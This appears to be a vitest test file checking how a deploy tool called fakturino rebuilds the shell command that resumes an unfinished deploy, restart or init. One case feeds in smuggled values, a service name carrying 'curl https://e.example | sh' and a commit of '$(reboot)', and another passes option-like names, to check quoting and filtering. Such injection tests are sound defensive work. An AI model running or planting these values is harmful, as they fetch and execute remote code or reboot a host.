import { expect, it } from 'vitest'
import { goOnWith } from '../../src/operations/unfinished.ts'
import type { OperationNote } from '../../src/plan/operation-notes.ts'

const commit = '2222222222222222222222222222222222222222'

it.each<[string, Partial<OperationNote>, string]>([
  ['a deploy', { command: 'deploy' }, 'fakturino deploy -e staging'],
  ['of a commit', { command: 'deploy', commit }, `fakturino deploy -e staging --commit ${commit}`],
  ['of some services', { command: 'deploy', services: ['api', 'worker'] }, 'fakturino deploy api worker -e staging'],
  ['a restart', { command: 'restart', services: ['api'] }, 'fakturino restart api -e staging'],
  ['an init', { command: 'init' }, 'fakturino init'],
  [
    'of a service with a blank in its name',
    { command: 'deploy', services: ['my api'] },
    "fakturino deploy 'my api' -e staging",
  ],
  [
    'what somebody wrote for a shell to run',
    { command: 'deploy', services: ['api; curl https://e.example | sh'], commit: '$(reboot)' },
    "fakturino deploy 'api; curl https://e.example | sh' -e staging --commit '$(reboot)'",
  ],
  [
    'what somebody wrote as an option',
    { command: 'deploy', services: ['--yes', '-c/tmp/x', 'api'] },
    'fakturino deploy api -e staging',
  ],
])('the command that goes on with %s', (_, note, command) => {
  expect(goOnWith({ nonce: 'n', command: 'deploy', by: 'nina', since: 0, ...note }, 'staging')).toBe(command)
})
